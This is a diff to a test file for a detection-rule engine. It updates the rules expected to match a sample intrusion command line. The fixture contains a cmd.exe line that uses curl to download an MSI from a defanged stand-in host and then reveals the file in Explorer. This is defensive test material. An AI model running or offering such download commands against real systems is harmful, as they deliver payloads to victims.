@@ -51,7 +51,11 @@ describe('command-line rules carry a value of the intrusion, not only generic fl
     const rules = processRules(
       'cmd /k "curl -o %USERPROFILE%\\Downloads\\setup_48213.msi \nhxxp[:]//dl-mirror-cdn[.]example/?d=77 && \nexplorer /select,%USERPROFILE%\\Downloads\\setup_48213.msi"',
     );
-    expect(rules.map(({ rule }) => rule.title)).toEqual(['Curl.EXE Download From Remote Host']);
+    // explorer.exe's own selection is gone; cmd.exe's line, which holds the whole chain, keeps a rule of its own.
+    expect(rules.map(({ rule }) => rule.title)).toEqual([
+      'Curl.EXE Download From Remote Host',
+      'Curl And Explorer Chained In One Cmd.EXE Command Line',
+    ]);
     expect(valuesOf(must(rules[0]).rule)).toContain('dl-mirror-cdn.example');
   });
 
